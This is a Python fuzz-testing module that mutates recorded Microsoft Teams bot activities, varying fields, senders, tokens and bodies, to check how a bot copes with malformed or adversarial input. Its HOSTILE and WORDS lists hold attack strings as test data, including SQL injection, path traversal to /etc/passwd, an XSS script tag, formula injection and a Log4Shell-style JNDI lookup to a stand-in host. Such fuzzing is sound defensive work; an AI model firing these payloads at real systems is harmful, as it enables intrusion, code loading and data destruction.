"""Activities as Teams would never send them: real ones, changed in up to five places, under good and bad tokens."""

from __future__ import annotations

import copy
import json
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta
from random import Random
from typing import Any

from dialogs import ALL

Path = tuple[str | int, ...]

VERBS = (*sorted(ALL.verbs), "", "__class__", "Next", "submit ")
HOSTILE: tuple[Any, ...] = (
    None, True, False, 0, -1, 1, 7, 2**31, 2**63, -(2**63), 2**64, 1e308, 0.1, "", " ", "0", "-1", "true", "null", [],
    {}, [[]], [None], {"a": {"b": []}}, "\x00", "\ud800", "\u202e", "\u200b", "<at>everyone</at>",
    "[x](https://evil.example)",
    "'; DROP TABLE answers; --", "{{DATE(2026-01-01T00:00:00Z)}}", "../../etc/passwd", "%00%2e%2e", "=1+1", "Zażółć",
    "👩‍👩‍👧‍👦" * 50, "x" * 281, "x" * 5_000, "x\n" * 500, "١٢", "２", "1e9", "NaN", "2026-13-45", "9999-12-31",
    "0001-01-01",
    ["a"] * 300, {str(number): number for number in range(20)}, "msteams", "19:x@thread.tacv2", "29:nobody",
    "task/submit",
)
WAYS = ("put", "put", "put", "verb", "drop", "list", "grow", "rename", "borrow", "person", "person")
"""Ways to break an activity; few that are changed so are still what anybody may send."""
TOKENS = ("good",) * 36 + ("none", "expired", "stranger", "other address")

GENTLE = ("words", "words", "words", "lend", "lend", "person", "extra", "forget", "locale", "lead")
"""Ways to change an activity into another one that Teams could well send."""
WORDS = (
    "Plain words", "<at>everyone</at>", "[x](https://evil.example)", "**b** _i_ `c` ~~s~~", "'; DROP TABLE answers; --",
    "{{DATE(2026-01-01T00:00:00Z)}}", "../../etc/passwd", "=1+1", "Zażółć gęślą jaźń", "👩‍👩‍👧‍👦",
    "\u202eright to left", "a\nb", "<script>alert(1)</script>", "${jndi:ldap://evil.example/x}", "%s {0} {who}", "null",
    "1", "2026-12-24", "x" * 140,
)
"""What a person may well write, and a careless program would stumble over."""
NOT_NEEDED = ("timestamp", "localTimestamp", "localTimezone", "locale", "entities", "replyToId", "text", "textFormat")
LEADING = ("extend", "nudge", "late", "pause", "resume", "close", "reopen", "next", "back", "start")

@dataclass(frozen=True)
class Attempt:
    """What is sent: the body, and the kind of token."""

    body: bytes
    token: str
    activity: Any
    """The body as JSON; None where it is none."""


def paths(node: Any, here: Path = ()) -> list[Path]:
    """The way to everything in a piece of JSON."""
    inner = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    found: list[Path] = [here] if here else []
    for name, value in inner:
        found += paths(value, (*here, name))
    return found


def at(node: Any, path: Path) -> Any:
    for name in path:
        node = node[name]
    return node


def changed(activity: dict[str, Any], way: str, path: Path, value: Any, other: dict[str, Any]) -> None:
    """Change one place of an activity."""
    parent, name = at(activity, path[:-1]), path[-1]
    old = parent[name]
    if way == "put":
        parent[name] = value
    elif way == "drop":
        del parent[name]
    elif way == "list":
        parent[name] = [old]
    elif way == "grow":
        parent[name] = old * 40 if isinstance(old, str) else [old] * 50
    elif way == "rename" and isinstance(parent, dict):
        parent[f"{name}2" if isinstance(value, str) else "verb"] = parent.pop(name)
    elif way == "borrow":
        parent[name] = other.get(str(path[0]))


def data_of(activity: dict[str, Any]) -> Any:
    """What a button or a form sent."""
    value = activity.get("value")
    if not isinstance(value, dict):
        return None
    action = value.get("action")
    return action.get("data") if isinstance(action, dict) else value.get("data")


def made(dice: Random, corpus: Sequence[dict[str, Any]], number: int) -> Attempt:
    """One attempt, made of the activities of a real session; `number` tells it from all others."""
    activity = copy.deepcopy(dice.choice(corpus))
    if dice.random() < 0.9:  # else it is a redelivery
        activity["id"] = f"f:{number}"
        activity["timestamp"] = _later(corpus, number)
    for _ in range(dice.randrange(4)):
        varied(activity, dice, corpus)
    if dice.random() < 0.3:
        for _ in range(dice.randint(1, 5)):
            broken(activity, dice, corpus)
    body = json.dumps(activity).encode()
    if dice.random() < 0.03:
        place = dice.randrange(len(body))
        start, rest = body[:place], body[place:]
        body = dice.choice((start, start + b"\xff" + rest, rest, b"[" * place))
    try:
        read = json.loads(body)
    except (ValueError, RecursionError):
        read = None
    return Attempt(body, dice.choice(TOKENS), read)


def _later(corpus: Sequence[dict[str, Any]], number: int) -> str:
    """When it is said: after all of the session, and after those that were made before."""
    last = max(datetime.fromisoformat(str(one["timestamp"])) for one in corpus)
    return (last + timedelta(milliseconds=number)).isoformat()


def broken(activity: dict[str, Any], dice: Random, corpus: Sequence[dict[str, Any]]) -> None:
    """Change one place of an activity, whatever comes of it."""
    way, other, data = dice.choice(WAYS), dice.choice(corpus), data_of(activity)
    if way == "verb":
        if isinstance(data, dict):
            data["verb"] = dice.choice(VERBS)
    elif way == "person":
        activity["from"] = copy.deepcopy(other["from"])
    else:
        target = data if isinstance(data, dict) and dice.random() < 0.75 else activity
        if there := paths(target):
            changed(target, way, dice.choice(there), copy.deepcopy(dice.choice(HOSTILE)), copy.deepcopy(other))


def varied(activity: dict[str, Any], dice: Random, corpus: Sequence[dict[str, Any]]) -> None:
    """Change an activity in a way that leaves it well-formed: other words, other sender, other verb, more or less."""
    way, data, other = dice.choice(GENTLE), data_of(activity), dice.choice(corpus)
    if way == "words" and isinstance(data, dict):
        texts = [name for name, value in data.items() if _is_typed(name) and isinstance(value, str) and " " in value]
        if texts:
            data[dice.choice(texts)] = dice.choice(WORDS)
    elif way == "lend" and isinstance(data, dict):
        lent = data_of(other)
        same = [name for name in data if _is_typed(name) and name in lent] if isinstance(lent, dict) else []
        data |= {name: copy.deepcopy(lent[name]) for name in same}
    elif way == "person":
        activity["from"] = copy.deepcopy(other["from"])
    elif way == "extra":
        places = [activity, activity["from"], activity["channelData"], data]
        target = dice.choice([place for place in places if isinstance(place, dict)])
        target[f"more{dice.randrange(9)}"] = copy.deepcopy(dice.choice(HOSTILE))
    elif way == "forget":
        name = dice.choice(NOT_NEEDED)
        if activity["type"] == "invoke" or name not in ("entities", "text"):
            activity.pop(name, None)
    elif way == "locale":
        activity["locale"] = dice.choice(("pl-PL", "en-GB", "bg", "xx", "", None))
    elif way == "lead" and isinstance(data, dict) and "w" in data:
        data |= {"verb": dice.choice(LEADING), "minutes": dice.randint(1, 9), "allowed": dice.random() < 0.5}


def _is_typed(name: str) -> bool:
    """Whether a person fills this in."""
    return name.startswith("a.") or name in ("institution", "country", "role", "challenge", "title", "minutes")
